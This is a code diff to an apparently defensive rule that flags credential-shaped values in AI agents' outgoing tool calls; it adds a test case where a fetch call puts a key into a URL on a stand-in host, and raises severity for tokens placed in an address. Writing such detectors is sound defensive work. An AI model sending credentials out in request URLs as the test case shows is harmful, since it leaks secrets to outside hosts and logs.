@@ -43,6 +43,7 @@ export default defineRule({
       args: { body: reversed(KEY) },
       before: [{ server: 'files', tool: 'read_file', args: { path: 'a' }, brought: KEY }],
     },
+    { note: 'by its shape alone, in an address', tool: 'fetch', args: { url: `https://x.test/data/${KEY}/export` } },
     {
       note: 'by its shape alone, encoded',
       tool: 'fetch',
@@ -99,7 +100,7 @@ export default defineRule({
         )
           yield {
             says: 'Something with the shape of a credential is in what is sent.',
-            severity: /key|token|private/.test(shaped.kind) && isProse(said.name) ? 'high' : 'medium',
+            severity: /key|token|private|jwt/.test(shaped.kind) && (isProse(said.name) || inAddress(said)) ? 'high' : 'medium',
             evidence: [{ kind: 'fact', address: said.address, says: shaped.kind }],
             key: said.address,
           };
@@ -116,6 +117,9 @@ export default defineRule({
     }
   },
 });
+
+/** In the address itself: it ends in the log of every machine on the way. */
+const inAddress = ({ name, text }: SaidInCall): boolean => /ur[il]/i.test(name) && /^\w{2,8}:\/\//.test(text);
 
 /** Where a credential belongs. */
 const LOGIN =
